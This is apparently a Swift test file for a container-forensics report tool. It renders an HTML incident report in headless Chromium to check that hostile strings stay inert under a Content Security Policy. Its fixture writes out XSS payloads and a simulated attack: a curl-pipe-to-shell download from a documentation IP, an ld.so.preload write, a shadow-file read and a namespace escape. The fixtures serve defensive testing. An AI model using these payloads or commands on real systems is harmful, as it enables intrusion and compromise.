@testable import CasefileReport
import CasefileTestSupport
import Foundation
import Testing

/// The HTML report as a browser sees it: headless Chromium (Debian's `chromium`, which the CI
/// setup installs) loads a report full of hostile strings, runs nothing, logs no console error or
/// CSP violation, and its DOM holds every section and the container names as text. The
/// screenshot is kept (in `$CASEFILE_TEST_OUTPUT` when set) and its path printed.
@Suite(.serialized, .timeLimit(.minutes(3)))
struct ReportRenderingTests {
    static let sectionIDs = ["summary", "scope", "workloads", "timeline-picture", "notable", "process-trees", "network", "files",
                             "data-quality", "evidence", "analyst-notes"]

    @Test func htmlReportRendersInertInChromium() throws {
        let browser = Chromium.locate()
        guard Requirement.check(browser != nil, "chromium or chromium-browser on PATH (Debian package `chromium`)"),
              let browser else { return }
        let dir = try temporaryDirectory()
        let output = try Self.outputDirectory(fallback: dir)
        let report = RenderingSample.report()
        let page = output.appendingPathComponent("report-rendering.html")
        try HTMLReport.render(report).write(to: page, atomically: true, encoding: .utf8)
        let profile = dir.appendingPathComponent("profile").path

        // The DOM after loading, and what the browser logged while loading it.
        let dump = try Chromium.run(browser, ["--dump-dom", page.absoluteString], profile: profile, in: dir)
        #expect(dump.status == 0, "chromium exited \(dump.status): \(dump.stderr.suffix(2_000))")
        let dom = dump.stdout
        #expect(dom.contains("</html>"), "a whole document was dumped: \(dom.prefix(500))")
        for id in Self.sectionIDs { #expect(dom.contains("id=\"\(id)\""), "section \(id)") }
        for c in report.containers {
            #expect(dom.contains(Chromium.serializedText(c.name!)), "container \(c.name!) as text")
        }
        let lower = dom.lowercased()
        #expect(!lower.contains("<script"), "no script element")
        #expect(!lower.contains("<img"), "no injected image")
        #expect(!lower.contains("<iframe") && !lower.contains("<object") && !lower.contains("<embed"))
        let parts = dom.components(separatedBy: "onerror=")
        #expect(parts.count > 1, "the hostile strings are shown")
        for part in parts.dropLast() { #expect(part.hasSuffix("&lt;img src=x "), "onerror outside text: \(part.suffix(80))") }
        #expect(dom.contains("<svg"), "the timeline is inline SVG")
        #expect(dom.components(separatedBy: "class=\"lane\"").count - 1 == report.containers.count + 1, "a lane each and the host lane")
        #expect(dom.contains("http-equiv=\"Content-Security-Policy\""), "the policy is in the page")
        // Anything that tried to run or load would have been blocked and logged to the console
        // (`INFO:CONSOLE:1] "Executing inline script violates the following Content Security Policy …`).
        for bad in Chromium.consoleTrouble {
            #expect(!dump.stderr.contains(bad), "chromium logged \(bad): \(Chromium.lines(dump.stderr, containing: bad))")
        }

        // A screenshot, kept with the test output.
        let shot = output.appendingPathComponent("report-rendering.png")
        try? FileManager.default.removeItem(at: shot)
        let capture = try Chromium.run(browser, ["--screenshot=\(shot.path)", "--window-size=1280,2000", "--hide-scrollbars",
                                                 page.absoluteString], profile: profile, in: dir)
        #expect(capture.status == 0, "chromium exited \(capture.status): \(capture.stderr.suffix(2_000))")
        for bad in Chromium.consoleTrouble {
            #expect(!capture.stderr.contains(bad), "chromium logged \(bad): \(Chromium.lines(capture.stderr, containing: bad))")
        }
        let png = try Data(contentsOf: shot)
        #expect(png.starts(with: [0x89, 0x50, 0x4E, 0x47]), "a PNG")
        #expect(png.count > 10_000, "\(png.count) bytes: a blank page would be smaller")
        print("report screenshot: \(shot.path) (\(png.count) bytes); page: \(page.path)")

        // The control: under the same policy a page with a script and an image from elsewhere
        // is blocked, and the log shows it (so the checks above would see it too).
        let control = dir.appendingPathComponent("control.html")
        try ("<!DOCTYPE html><html><head><meta charset=\"utf-8\"/><meta http-equiv=\"Content-Security-Policy\" content=\""
            + HTMLReport.contentSecurityPolicy + "\"/></head><body><p id=\"p\">still</p>"
            + "<script>document.getElementById('p').textContent = 'ran'</script>"
            + "<img src=\"http://192.0.2.1/x.png\"/></body></html>").write(to: control, atomically: true, encoding: .utf8)
        let blocked = try Chromium.run(browser, ["--dump-dom", control.absoluteString], profile: profile, in: dir)
        #expect(blocked.stdout.contains(">still<"), "the script did not run: \(blocked.stdout.prefix(400))")
        #expect(Chromium.consoleTrouble.contains { blocked.stderr.contains($0) }, "the blocked script was logged: \(blocked.stderr.suffix(1_500))")
    }

    /// `$CASEFILE_TEST_OUTPUT` (created when missing), else the test's temporary directory.
    static func outputDirectory(fallback: URL) throws -> URL {
        guard let path = ProcessInfo.processInfo.environment["CASEFILE_TEST_OUTPUT"], !path.isEmpty else { return fallback }
        let url = URL(fileURLWithPath: path, isDirectory: true)
        try FileManager.default.createDirectory(at: url, withIntermediateDirectories: true)
        return url
    }
}

/// Headless Chromium, run to completion with a time limit, its output through files.
enum Chromium {
    /// What Chromium's log holds when a page logs to the console (any message: this page has no
    /// script, so only the browser itself could), throws, or has something blocked by its policy.
    static let consoleTrouble = [":CONSOLE", "Uncaught", "Refused to", "violates the following Content Security Policy",
                                 "Content Security Policy"]

    static func locate() -> String? {
        let path = ProcessInfo.processInfo.environment["PATH"] ?? "/usr/bin:/bin"
        for name in ["chromium", "chromium-browser"] {
            for dir in path.split(separator: ":") {
                let candidate = "\(dir)/\(name)"
                if FileManager.default.isExecutableFile(atPath: candidate) { return candidate }
            }
        }
        return nil
    }

    struct Result {
        var status: Int32
        var stdout: String
        var stderr: String
    }

    static func run(_ browser: String, _ arguments: [String], profile: String, in dir: URL, timeout: TimeInterval = 90) throws -> Result {
        let id = UUID().uuidString.prefix(8)
        let out = dir.appendingPathComponent("chromium-\(id).out"), err = dir.appendingPathComponent("chromium-\(id).err")
        FileManager.default.createFile(atPath: out.path, contents: nil)
        FileManager.default.createFile(atPath: err.path, contents: nil)
        let p = Process()
        p.executableURL = URL(fileURLWithPath: browser)
        p.arguments = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
                       "--no-default-browser-check", "--disable-extensions", "--disable-sync", "--user-data-dir=\(profile)",
                       "--enable-logging=stderr", "--v=0"] + arguments
        p.standardInput = FileHandle.nullDevice
        p.standardOutput = try FileHandle(forWritingTo: out)
        p.standardError = try FileHandle(forWritingTo: err)
        p.currentDirectoryURL = dir
        try p.run()
        let deadline = Date().addingTimeInterval(timeout)
        while p.isRunning, Date() < deadline { Thread.sleep(forTimeInterval: 0.1) }
        if p.isRunning {
            kill(p.processIdentifier, SIGKILL)
            p.waitUntilExit()
            Issue.record("chromium did not finish within \(Int(timeout)) s")
        }
        p.waitUntilExit()
        return Result(status: p.terminationStatus,
                      stdout: (try? String(contentsOf: out, encoding: .utf8)) ?? "",
                      stderr: (try? String(contentsOf: err, encoding: .utf8)) ?? "")
    }

    /// Text as a browser serializes a text node: `&`, `<`, `>` (and no-break space) as entities.
    static func serializedText(_ s: String) -> String {
        var out = ""
        for c in s.unicodeScalars {
            switch c {
            case "&": out += "&amp;"
            case "<": out += "&lt;"
            case ">": out += "&gt;"
            case "\u{A0}": out += "&nbsp;"
            default: out.unicodeScalars.append(c)
            }
        }
        return out
    }

    static func lines(_ text: String, containing needle: String) -> String {
        text.split(separator: "\n").filter { $0.contains(needle) }.prefix(10).joined(separator: "\n")
    }
}

/// A small incident: a web container that ran a shell and a dropped binary, a short-lived helper,
/// and a container whose name (and everything else the host said) is hostile markup.
enum RenderingSample {
    static let t0: Int64 = 1_796_031_818_000_000_000  // 2026-11-30T09:43:38Z
    static let s: Int64 = 1_000_000_000

    static func utc(_ ns: Int64) -> String { HTMLReport.time(ns) }

    static func report() -> Report {
        let hostile = "<script>alert(1)</script>"
        let quote = "\"'><img src=x onerror=alert(1)>"
        let names = ["web-frontend", "curl-once", "evil" + hostile]
        let ids = ["3f2a9c1d7b6e" + String(repeating: "a", count: 52), "8d1e4b2c9f0a" + String(repeating: "b", count: 52),
                   "c0ffee123456" + String(repeating: "c", count: 52)]
        let span = 240 * s
        var events: [Report.NotableEvent] = []
        func event(_ at: Int64, _ category: String, _ kind: String, _ c: Int?, _ pid: Int64, _ comm: String, _ details: String) {
            events.append(.init(timeNs: t0 + at, time: utc(t0 + at), category: category, kind: kind, container: c.map { names[$0] },
                                containerID: c.map { ids[$0] }, pod: c == 0 ? "shop/frontend-7d9f" : nil, pid: pid, processKey: pid,
                                comm: comm, details: details))
        }
        event(12 * s, "process-start", "exec", 0, 4101, "nginx", "nginx -g 'daemon off;'")
        event(61 * s, "shell", "exec", 0, 4188, "sh", "sh -c 'curl -s http://203.0.113.7/x | sh' " + quote)
        event(63 * s, "outbound-connection", "connect", 0, 4190, "curl", "203.0.113.7:80 ok")
        event(64 * s, "exec-from-writable-place", "exec", 0, 4192, "x", "/tmp/.x/x --beacon ]]> </style><script>")
        event(66 * s, "sensitive-file", "open_write", 0, 4192, "x", "/etc/ld.so.preload &amp; \\u{202E}gnp.exe")
        event(70 * s, "privilege", "setuid", 0, 4192, "x", "uid 33 → 0")
        event(90 * s, "lifecycle", "container_created", 1, 0, "", "created")
        event(91 * s, "process-start", "exec", 1, 5001, "curl", "curl -fsS https://example.invalid/health")
        event(93 * s, "lifecycle", "container_removed", 1, 0, "", "removed after 3.0 s")
        event(150 * s, "denied", "open", 2, 6001, "cat", "/proc/1/root/etc/shadow EACCES " + hostile)
        event(152 * s, "escape", "setns", 2, 6001, "nsenter" + quote, "setns into pid 1's mount namespace " + quote)
        event(200 * s, "privilege", "capset", nil, 1, "systemd", "host process " + hostile)
        event(201 * s, "loss", "events_lost", nil, 0, "", "42 events lost")
        var report = Report(
            generated: .init(atNs: t0 + span + 60 * s, at: utc(t0 + span + 60 * s), by: "casefile 0.1.0",
                             command: ["casefile", "report", "--db", "/evidence/case<script>.db", "-o", "report.html"]),
            caseFile: .init(path: "/evidence/case<script>.db", bytes: 12_345_678, sha256: String(repeating: "9f", count: 32),
                            walSha256: nil, schemaVersion: 7, sealHead: String(repeating: "a1", count: 32), verification: "verified",
                            verificationProblems: [], verificationNotes: ["3 seals, the last at the clean stop"], readNotes: []),
            scope: .init(containers: [], pods: [], namespaces: [], sinceNs: nil, untilNs: nil, since: nil, until: nil),
            summary: .init(firstActivityNs: t0, lastActivityNs: t0 + span, firstActivity: utc(t0), lastActivity: utc(t0 + span),
                           hosts: ["node-1"], events: 48_213, countsByKind: [.init(kind: "exec", count: 1_204), .init(kind: "open", count: 40_000),
                                                                               .init(kind: "connect", count: 7_009)],
                           containers: 3, shortLivedContainers: 1, pods: 1, lostEvents: 42,
                           headlines: ["1 shell in a container", "1 exec from a writable place", "1 escape attempt " + hostile]),
            sessions: [.init(id: 1, host: "node-1", kernel: "6.1.0-28-amd64", startedNs: t0, endedNs: t0 + span, started: utc(t0),
                             ended: utc(t0 + span), cleanStop: true, events: 48_213, lost: 42, casefileVersion: "0.1.0",
                             attached: "exec, open, connect, setns", notAttached: nil, runtimes: "docker answered", eventsRecorded: "all",
                             scope: nil, warnings: nil)],
            containers: [
                .init(id: ids[0], name: names[0], runtime: "docker", image: "nginx:1.27", imageDigest: "sha256:" + String(repeating: "1e", count: 32),
                      pod: "frontend-7d9f", podUID: "0b1c", namespace: "shop", createdNs: t0 - 3_600 * s, removedNs: nil,
                      created: utc(t0 - 3_600 * s), removed: nil, lifetimeNs: nil, existedAtStart: true, confirmed: true, shortLived: false,
                      enrichment: "docker", notableEvents: 6),
                .init(id: ids[1], name: names[1], runtime: "docker", image: "curlimages/curl", imageDigest: nil, pod: nil, podUID: nil,
                      namespace: nil, createdNs: t0 + 90 * s, removedNs: t0 + 93 * s, created: utc(t0 + 90 * s), removed: utc(t0 + 93 * s),
                      lifetimeNs: 3 * s, existedAtStart: false, confirmed: true, shortLived: true, enrichment: "docker", notableEvents: 3),
                .init(id: ids[2], name: names[2], runtime: "podman", image: "img" + quote, imageDigest: nil, pod: nil, podUID: nil,
                      namespace: nil, createdNs: t0 + 140 * s, removedNs: t0 + 180 * s, created: utc(t0 + 140 * s), removed: utc(t0 + 180 * s),
                      lifetimeNs: 40 * s, existedAtStart: false, confirmed: false, shortLived: false, enrichment: "podman: " + quote,
                      notableEvents: 2),
            ],
            pods: [.init(uid: "0b1c", namespace: "shop", name: "frontend-7d9f", labels: "app=frontend, tier=" + hostile, containers: 1)],
            notable: .init(events: events, cap: 1_000,
                           countsByCategory: Dictionary(grouping: events, by: \.category).map { .init(category: $0.key, count: Int64($0.value.count)) }
                               .sorted { $0.category < $1.category },
                           leftOut: [.init(category: "process-start", count: 1_180)]),
            processTrees: [
                .init(container: names[0], containerID: ids[0], lines: [
                    .init(depth: 0, pid: 4101, processKey: 1, command: "nginx -g 'daemon off;'", startedNs: t0 - 3_600 * s, exitedNs: nil, exit: nil),
                    .init(depth: 1, pid: 4188, processKey: 2, command: "sh -c 'curl -s http://203.0.113.7/x | sh'", startedNs: t0 + 61 * s,
                          exitedNs: t0 + 80 * s, exit: "exit 0"),
                    .init(depth: 2, pid: 4190, processKey: 3, command: "curl -s http://203.0.113.7/x", startedNs: t0 + 63 * s,
                          exitedNs: t0 + 63 * s + 400_000_000, exit: "exit 0"),
                    .init(depth: 2, pid: 4192, processKey: 4, command: "/tmp/.x/x --beacon " + hostile, startedNs: t0 + 64 * s, exitedNs: nil, exit: nil),
                ], leftOut: 0),
                .init(container: names[2], containerID: ids[2], lines: [
                    .init(depth: 0, pid: 6000, processKey: 5, command: "sh " + quote, startedNs: t0 + 140 * s, exitedNs: t0 + 180 * s, exit: "killed by SIGKILL"),
                ], leftOut: 3),
            ],
            networkPeers: [.init(container: names[0], containerID: ids[0], kind: "connect", peer: "203.0.113.7:80", results: "ok", count: 2,
                                 firstNs: t0 + 63 * s, first: utc(t0 + 63 * s)),
                           .init(container: names[2], containerID: ids[2], kind: "connect", peer: "[2001:db8::1]:443" + hostile, results: "ECONNREFUSED",
                                 count: 9, firstNs: t0 + 151 * s, first: utc(t0 + 151 * s))],
            files: [.init(container: names[0], containerID: ids[0], action: "written", path: "/etc/ld.so.preload", results: "ok", count: 1,
                          firstNs: t0 + 66 * s, first: utc(t0 + 66 * s)),
                    .init(container: names[0], containerID: ids[0], action: "written", path: "/tmp/.x/" + hostile + quote, results: "ok", count: 3,
                          firstNs: t0 + 64 * s, first: utc(t0 + 64 * s))],
            dataQuality: .init(gaps: [.init(atNs: t0 + 201 * s, at: utc(t0 + 201 * s), count: 42, reason: "ring buffer full")], lostEvents: 42,
                               enrichmentFailures: [.init(containerID: ids[2], container: names[2], error: "podman: no such container " + quote)],
                               unrecorded: [], schemaDifferences: [],
                               statements: ["42 events were lost at \(utc(t0 + 201 * s)): the ring buffer was full."]))
        report.analystNotes = ""
        return report
    }
}
